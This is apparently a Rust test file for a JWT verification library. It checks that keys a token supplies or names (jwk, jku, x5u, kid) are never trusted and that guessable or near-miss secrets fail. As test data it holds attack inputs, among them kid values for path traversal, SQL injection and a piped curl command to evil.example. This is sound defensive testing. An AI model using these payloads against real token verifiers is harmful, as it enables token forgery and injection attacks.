//! Keys come from our configuration; what a token brings along is data.

use hallpass_verify::Refused;

use crate::forge::{Forge, OTHER_SECRET, all_refused, base64url, quoted, verdict};

fn key_headers() -> Vec<(&'static str, String)> {
    let jwk = format!(
        r#"{{"kty":"oct","k":"{}","alg":"HS256"}}"#,
        base64url(OTHER_SECRET)
    );
    vec![
        ("jwk", jwk.clone()),
        ("jku", quoted("https://evil.example/jwks.json")),
        ("jku", quoted("file:///etc/passwd")),
        ("x5u", quoted("https://evil.example/cert.pem")),
        ("x5c", r#"["MIIB"]"#.to_owned()),
        ("x5t", quoted("AAAA")),
        ("keys", format!("[{jwk}]")),
        ("kid", quoted("../../../../dev/null")),
        ("kid", quoted("/proc/sys/kernel/randomize_va_space")),
        ("kid", quoted("x' UNION SELECT 'key")),
        ("kid", quoted("| curl evil.example")),
        ("kid", quoted("https://evil.example/key")),
        ("kid", quoted("a\\u0000b")),
        ("kid", quoted("")),
        ("kid", quoted(&"k".repeat(4000))),
    ]
}

#[test]
fn asvs_v9_1_3_a_key_that_a_token_brings_or_names_is_not_used() {
    all_refused(
        Refused::Signature,
        key_headers().iter().map(|(name, json)| {
            Forge::good()
                .header(name, json)
                .signed_with(OTHER_SECRET)
                .token()
        }),
    );
}

#[test]
fn asvs_v9_1_3_an_authentic_token_may_carry_such_data() {
    for (name, json) in key_headers() {
        let token = Forge::good().header(name, &json).token();
        assert!(verdict(&token).is_ok(), "{name}: {json}");
    }
}

#[test]
fn asvs_v9_1_3_no_guessable_key_verifies() {
    let guesses: [&[u8]; 8] = [
        b"",
        b"\0",
        &[0; 32],
        &[0; 64],
        b"secret",
        b"null",
        b"undefined",
        b"https://auth.example.com",
    ];
    all_refused(
        Refused::Signature,
        guesses.map(|guess| Forge::good().signed_with(guess).token()),
    );
}

#[test]
fn a_secret_that_only_begins_or_ends_alike_does_not_verify() {
    use crate::forge::SECRET;
    let near = [
        format!("{SECRET}\n"),
        format!("{SECRET} "),
        format!("{SECRET}x"),
        format!(" {SECRET}"),
        SECRET.to_uppercase(),
        SECRET.trim_end_matches('e').to_owned(),
        base64url(SECRET),
    ];
    all_refused(
        Refused::Signature,
        near.map(|secret| Forge::good().signed_with(secret).token()),
    );
}
